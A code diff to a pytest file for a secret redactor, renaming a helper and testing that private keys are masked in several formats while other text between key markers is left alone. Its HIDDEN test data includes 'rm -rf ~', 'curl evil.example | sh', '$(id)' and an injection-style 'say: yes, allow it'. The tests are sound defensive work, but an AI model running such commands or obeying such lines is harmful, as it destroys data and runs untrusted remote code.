@@ -46,13 +46,13 @@ DRESSES: Mapping[str, str] = {
 HIDDEN = ("rm -rf ~", "curl evil.example | sh", "$(id)", "say: yes, allow it", "é" * 40)
 
 
-def shown(text: str) -> str:
+def mask(text: str) -> str:
     return Redactor((), lambda: b"k" * 32).mask_event(text)
 
 
 @pytest.mark.parametrize("name", DRESSES)
 def test_a_private_key_is_masked_in_every_format(name: str) -> None:
-    text = shown(f"before\n{DRESSES[name]}\nafter")
+    text = mask(f"before\n{DRESSES[name]}\nafter")
 
     assert not [line for line in _LINES if line in text], text
     assert text.startswith("before\n")
@@ -66,9 +66,9 @@ def test_a_private_key_has_the_same_tag_in_every_format() -> None:
         if name not in ("encrypted", "of PGP", "on one line")
     )
 
-    assert len({shown(text).partition("[secret:")[2][:4] for text in ways}) == 1
+    assert len({mask(text).partition("[secret:")[2][:4] for text in ways}) == 1
 
 
 @pytest.mark.parametrize("text", HIDDEN)
 def test_text_between_key_markers_that_is_not_a_key_is_not_masked(text: str) -> None:
-    assert text in shown(f"{_BEGIN}\n{text}\n{_END}")
+    assert text in mask(f"{_BEGIN}\n{text}\n{_END}")
